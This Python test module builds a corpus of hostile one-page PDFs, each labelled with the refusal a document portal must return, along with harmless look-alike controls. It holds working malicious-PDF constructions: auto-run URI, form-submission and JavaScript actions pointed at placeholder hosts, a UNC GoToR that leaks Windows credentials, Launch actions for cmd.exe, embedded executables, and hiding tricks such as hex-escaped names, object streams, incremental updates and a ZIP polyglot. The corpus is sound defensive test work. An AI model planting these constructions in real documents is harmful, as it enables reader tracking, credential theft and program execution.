"""A corpus of hostile PDFs, written byte by byte here so every trick is visible.

Each entry is a small one-page PDF with one thing a viewer could run or follow by
itself (or, for the controls, something harmless that looks similar), and the
reason the portal must give. ``tests/documents/test_pdf_policy.py`` checks every
one; to look at them with other tools, write them out:

    .venv/bin/python -m tests.documents.hostile_pdfs /tmp/hostile-pdfs

The files follow the PDF 1.7 syntax (ISO 32000-1): objects, a cross-reference
table or stream, a trailer. Most are built with ``document()``, which takes the
extra entries of the catalog and of the page, and extra numbered objects.
"""

import sys
from dataclasses import dataclass
from pathlib import Path

from portal.documents.refusals import Refusal
from tests.documents import samples

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
# Objects 1–4 of every document: catalog, page tree, page, its content.
CATALOG, PAGES, PAGE, CONTENT = 1, 2, 3, 4
DRAWING = b"0 0 m 150 150 l S"


def _stream(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def _base_objects(catalog: bytes, page: bytes) -> dict[int, bytes]:
    return {
        CATALOG: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>",
        PAGES: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        PAGE: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R "
        + page
        + b" >>",
        CONTENT: _stream(b"", DRAWING),
    }


def _xref_table(offsets: dict[int, int], size: int, trailer: bytes, start: int) -> bytes:
    """A classic cross-reference section for ``offsets`` (number → byte offset; 0 is the
    head of the free list), then the trailer and ``startxref``."""
    lines = [b"xref\n"]
    numbers = sorted(offsets)
    runs: list[list[int]] = []
    for number in numbers:  # consecutive numbers make one subsection
        if runs and number == runs[-1][-1] + 1:
            runs[-1].append(number)
        else:
            runs.append([number])
    for run in runs:
        lines.append(b"%d %d\n" % (run[0], len(run)))
        for number in run:
            if number == 0:
                lines.append(b"0000000000 65535 f \n")
            else:
                lines.append(b"%010d 00000 n \n" % offsets[number])
    return (
        b"".join(lines)
        + b"trailer\n<< /Size %d /Root 1 0 R " % size
        + trailer
        + b" >>\nstartxref\n%d\n%%%%EOF\n" % start
    )


def document(catalog: bytes = b"", page: bytes = b"", objects: dict | None = None) -> bytes:
    """A one-page PDF whose catalog and page carry the given extra entries."""
    everything = {**_base_objects(catalog, page), **(objects or {})}
    output = bytearray(HEADER)
    offsets = {0: 0}
    for number in sorted(everything):
        offsets[number] = len(output)
        output += b"%d 0 obj\n" % number + everything[number] + b"\nendobj\n"
    start = len(output)
    output += _xref_table(offsets, max(everything) + 1, b"", start)
    return bytes(output)


def with_object_stream(catalog: bytes, packed: dict[int, bytes]) -> bytes:
    """A PDF 1.5 file: ``packed`` objects inside an object stream, found through an
    uncompressed cross-reference stream (what most modern writers produce, compressed)."""
    plain = _base_objects(catalog, b"")
    stream_number = max([*plain, *packed]) + 1
    xref_number = stream_number + 1
    index, body = [], bytearray()
    for number in sorted(packed):
        index.append(b"%d %d" % (number, len(body)))
        body += packed[number] + b"\n"
    first = b" ".join(index) + b"\n"
    plain[stream_number] = _stream(
        b"/Type /ObjStm /N %d /First %d" % (len(packed), len(first)), first + bytes(body)
    )
    output = bytearray(HEADER)
    rows = {0: (0, 0, 65535)}
    for number in sorted(plain):
        rows[number] = (1, len(output), 0)
        output += b"%d 0 obj\n" % number + plain[number] + b"\nendobj\n"
    for position, number in enumerate(sorted(packed)):
        rows[number] = (2, stream_number, position)
    start = len(output)
    rows[xref_number] = (1, start, 0)
    table = b"".join(
        bytes([kind]) + field.to_bytes(4, "big") + extra.to_bytes(2, "big")
        for kind, field, extra in (rows[n] for n in range(xref_number + 1))
    )
    output += (
        b"%d 0 obj\n" % xref_number
        + _stream(b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1), table)
        + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    )
    return bytes(output)


def with_incremental_update(catalog: bytes, objects: dict[int, bytes]) -> bytes:
    """A clean document, then an update appended to it (as editors and signers do) that
    rewrites the catalog and adds objects; readers use the updated version."""
    original = document()
    previous = int(original.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    output = bytearray(original)
    changed = {CATALOG: b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", **objects}
    offsets = {}
    for number in sorted(changed):
        offsets[number] = len(output)
        output += b"%d 0 obj\n" % number + changed[number] + b"\nendobj\n"
    start = len(output)
    size = max(max(changed), CONTENT) + 1
    output += _xref_table(offsets, size, b"/Prev %d" % previous, start)
    return bytes(output)


def uri(address: bytes = b"https://recolha.example.invalid/abrir") -> bytes:
    return b"<< /Type /Action /S /URI /URI (" + address + b") >>"


EXECUTABLE = samples.windows_executable()


def _embedded_file(number: int, typed: bool = True) -> dict[int, bytes]:
    """A file specification (object ``number``) whose /EF holds an executable; the
    stream's ``/Type /EmbeddedFile`` is optional, and left out when not ``typed``."""
    kind = b"/Type /EmbeddedFile " if typed else b""
    return {
        number: b"<< /Type /Filespec /F (fatura.exe) /UF (fatura.exe) /AFRelationship /Data "
        b"/EF << /F %d 0 R >> >>" % (number + 1),
        number + 1: _stream(kind + b"/Subtype /application#2Foctet-stream", EXECUTABLE),
    }


def _annotation(dictionary: bytes) -> tuple[bytes, dict[int, bytes]]:
    """Page entries and objects for one annotation (object 5) on the page."""
    return b"/Annots [5 0 R]", {5: b"<< /Type /Annot /Rect [10 10 100 40] " + dictionary + b" >>"}


@dataclass(frozen=True)
class HostilePdf:
    name: str
    what: str
    reason: Refusal | None  # None: a control, accepted
    build: object

    @property
    def data(self) -> bytes:
        return self.build()


def _page_with(dictionary: bytes):
    page, objects = _annotation(dictionary)
    return lambda: document(page=page, objects=objects)


CORPUS = [
    # Actions that reach outside the file, run when the file is opened ----------------
    HostilePdf(
        "openaction-uri.pdf",
        "opening the file opens a web page (tracking the reader)",
        Refusal.ACTION,
        lambda: document(catalog=b"/OpenAction " + uri()),
    ),
    HostilePdf(
        "openaction-submitform.pdf",
        "opening the file sends its form data to a server",
        Refusal.ACTION,
        lambda: document(
            catalog=b"/OpenAction << /S /SubmitForm /F << /FS /URL "
            b"/F (https://recolha.example.invalid/enviar) >> /Flags 4 >>"
        ),
    ),
    HostilePdf(
        "openaction-gotor-unc.pdf",
        "opening the file opens another on a UNC path (leaks Windows credentials)",
        Refusal.ACTION,
        lambda: document(
            catalog=rb"/OpenAction << /S /GoToR /F (\\\\atacante.example.invalid\\partilha\\d.pdf)"
            rb" /D [0 /Fit] /NewWindow true >>"
        ),
    ),
    HostilePdf(
        "openaction-importdata.pdf",
        "opening the file imports form data from another file",
        Refusal.ACTION,
        lambda: document(catalog=b"/OpenAction << /S /ImportData /F (dados.fdf) >>"),
    ),
    HostilePdf(
        "openaction-rendition.pdf",
        "opening the file plays media",
        Refusal.ACTION,
        lambda: document(catalog=b"/OpenAction << /S /Rendition /OP 0 /R << /S /MR >> >>"),
    ),
    HostilePdf(
        "openaction-named-print.pdf",
        "opening the file runs a viewer command (print)",
        Refusal.ACTION,
        lambda: document(catalog=b"/OpenAction << /S /Named /N /Print >>"),
    ),
    HostilePdf(
        "openaction-hex-escaped.pdf",
        "the /URI action spelled with an escape (/U#52I) to slip past a byte search",
        Refusal.ACTION,
        lambda: document(catalog=b"/OpenAction << /S /U#52I /URI (https://x.example.invalid) >>"),
    ),
    # Additional actions (/AA): run on events --------------------------------------------
    HostilePdf(
        "page-aa-uri.pdf",
        "opening the page opens a web page",
        Refusal.ACTION,
        lambda: document(page=b"/AA << /O " + uri() + b" >>"),
    ),
    HostilePdf(
        "page-aa-gotoe.pdf",
        "closing the page opens an embedded or remote file (/GoToE)",
        Refusal.ACTION,
        lambda: document(page=b"/AA << /C << /S /GoToE /F (outro.pdf) /T << /R /C /N (a) >> >> >>"),
    ),
    HostilePdf(
        "document-aa-submitform.pdf",
        "printing the document sends its data away",
        Refusal.ACTION,
        lambda: document(
            catalog=b"/AA << /DP << /S /SubmitForm /F << /FS /URL /F (https://x.example.invalid) >>"
            b" >> >>"
        ),
    ),
    HostilePdf(
        "annotation-aa-uri.pdf",
        "moving the mouse over a widget opens a web page",
        Refusal.ACTION,
        _page_with(b"/Subtype /Widget /FT /Btn /T (b) /AA << /E " + uri() + b" >>"),
    ),
    HostilePdf(
        "link-uri.pdf",
        "a link annotation to a web page",
        Refusal.ACTION,
        _page_with(b"/Subtype /Link /Border [0 0 0] /A " + uri()),
    ),
    HostilePdf(
        "link-launch-next.pdf",
        "a harmless jump followed (/Next) by launching a program",
        Refusal.LAUNCH,
        lambda: document(
            catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch "
            b"/F (C:\\\\Windows\\\\System32\\\\calc.exe) >> >>"
        ),
    ),
    # Scripts ------------------------------------------------------------------------------
    HostilePdf(
        "openaction-javascript.pdf",
        "JavaScript run when the file opens",
        Refusal.SCRIPT,
        lambda: document(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    ),
    HostilePdf(
        "annotation-aa-javascript.pdf",
        "JavaScript on a widget's keystroke (the most serious reason wins over /AA)",
        Refusal.SCRIPT,
        _page_with(b"/Subtype /Widget /FT /Tx /T (t) /AA << /K << /S /JavaScript /JS (1) >> >>"),
    ),
    HostilePdf(
        "names-javascript.pdf",
        "document-level JavaScript in the /Names tree",
        Refusal.SCRIPT,
        lambda: document(
            catalog=b"/Names << /JavaScript 5 0 R >>",
            objects={5: b"<< /Names [(inicio) << /S /JavaScript /JS (app.alert(2)) >>] >>"},
        ),
    ),
    HostilePdf(
        "acroform-xfa.pdf",
        "an XFA form (scripted forms)",
        Refusal.SCRIPT,
        lambda: document(
            catalog=b"/AcroForm << /Fields [] /XFA 5 0 R >>",
            objects={5: _stream(b"", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")},
        ),
    ),
    # Programs -----------------------------------------------------------------------------
    HostilePdf(
        "openaction-launch.pdf",
        "opening the file starts a program",
        Refusal.LAUNCH,
        lambda: document(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
    ),
    # Files inside the file ----------------------------------------------------------------
    HostilePdf(
        "associated-file-af.pdf",
        "an executable carried as an associated file (/AF + /EF)",
        Refusal.ATTACHMENT,
        lambda: document(catalog=b"/AF [5 0 R]", objects=_embedded_file(5, typed=False)),
    ),
    HostilePdf(
        "embedded-files.pdf",
        "an executable in the /EmbeddedFiles name tree",
        Refusal.ATTACHMENT,
        lambda: document(
            catalog=b"/Names << /EmbeddedFiles << /Names [(fatura.exe) 5 0 R] >> >>",
            objects=_embedded_file(5),
        ),
    ),
    HostilePdf(
        "file-attachment-annotation.pdf",
        "an executable in a file attachment annotation",
        Refusal.ATTACHMENT,
        lambda: document(
            page=b"/Annots [7 0 R]",
            objects={
                **_embedded_file(5),
                7: b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] /FS 5 0 R >>",
            },
        ),
    ),
    HostilePdf(
        "rich-media.pdf",
        "a rich media annotation (Flash, video)",
        Refusal.ATTACHMENT,
        _page_with(b"/Subtype /RichMedia /RichMediaContent << /Assets << /Names [] >> >>"),
    ),
    # Hiding places ------------------------------------------------------------------------
    HostilePdf(
        "object-stream-uri.pdf",
        "the /OpenAction's /URI action packed in an object stream (PDF 1.5)",
        Refusal.ACTION,
        lambda: with_object_stream(b"/OpenAction 5 0 R", {5: uri()}),
    ),
    HostilePdf(
        "object-stream-embedded-file.pdf",
        "an associated-file specification packed in an object stream",
        Refusal.ATTACHMENT,
        lambda: with_object_stream(
            b"/AF [5 0 R]", {5: b"<< /Type /Filespec /F (a.exe) /EF << /F 4 0 R >> >>"}
        ),
    ),
    HostilePdf(
        "incremental-update-openaction.pdf",
        "a clean file with an incremental update that adds an /OpenAction",
        Refusal.ACTION,
        lambda: with_incremental_update(b"/OpenAction 5 0 R", {5: uri()}),
    ),
    HostilePdf(
        "incremental-update-javascript.pdf",
        "an incremental update that adds document-level JavaScript",
        Refusal.SCRIPT,
        lambda: with_incremental_update(
            b"/Names << /JavaScript << /Names [(x) 5 0 R] >> >>",
            {5: b"<< /S /JavaScript /JS (this.submitForm('https://x.example.invalid')) >>"},
        ),
    ),
    HostilePdf(
        "unreferenced-launch.pdf",
        "a launch action in an object nothing points to (a repairing viewer may find it)",
        Refusal.LAUNCH,
        lambda: document(objects={5: b"<< /S /Launch /F (cmd.exe) >>"}),
    ),
    # What was refused before and still is -------------------------------------------------
    HostilePdf(
        "encrypted.pdf", "protected with a password", Refusal.ENCRYPTED, samples.encrypted_pdf
    ),
    HostilePdf(
        "zip-appended.pdf",
        "a ZIP archive after the end of the PDF (a polyglot)",
        Refusal.TRAILING,
        lambda: document() + samples.zip_payload(),
    ),
    # Controls: look alike, harmless, accepted ---------------------------------------------
    HostilePdf("plain.pdf", "a page with a drawing", None, document),
    HostilePdf(
        "openaction-destination.pdf",
        "/OpenAction as a destination array (first view; written by office suites)",
        None,
        lambda: document(catalog=b"/OpenAction [3 0 R /XYZ null null 0]"),
    ),
    HostilePdf(
        "openaction-goto.pdf",
        "/OpenAction as a jump to a page of the same file",
        None,
        lambda: document(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >>"),
    ),
    HostilePdf(
        "link-internal.pdf",
        "a link to another place in the same file",
        None,
        _page_with(b"/Subtype /Link /Border [0 0 0] /A << /S /GoTo /D [3 0 R /Fit] >>"),
    ),
    HostilePdf(
        "tagged.pdf",
        "a tagged (accessible) PDF: structure elements also use /S",
        None,
        lambda: document(
            catalog=b"/MarkInfo << /Marked true >> /StructTreeRoot 5 0 R",
            objects={
                5: b"<< /Type /StructTreeRoot /K [6 0 R] >>",
                6: b"<< /Type /StructElem /S /P /P 5 0 R /Pg 3 0 R /K 0 >>",
            },
        ),
    ),
    HostilePdf(
        "object-stream-clean.pdf",
        "a clean file with an object stream and a cross-reference stream",
        None,
        lambda: with_object_stream(b"/PageLabels 5 0 R", {5: b"<< /Nums [0 << /S /D >>] >>"}),
    ),
    HostilePdf(
        "incremental-update-clean.pdf",
        "a clean incremental update (as a digital signature adds)",
        None,
        lambda: with_incremental_update(b"/Lang (pt-PT)", {}),
    ),
]


def write_corpus(folder: Path) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    for sample in CORPUS:
        (folder / sample.name).write_bytes(sample.data)
        verdict = sample.reason.value if sample.reason else "accepted"
        print(f"{sample.name:40} {verdict:12} {sample.what}")


if __name__ == "__main__":
    write_corpus(Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-pdfs"))
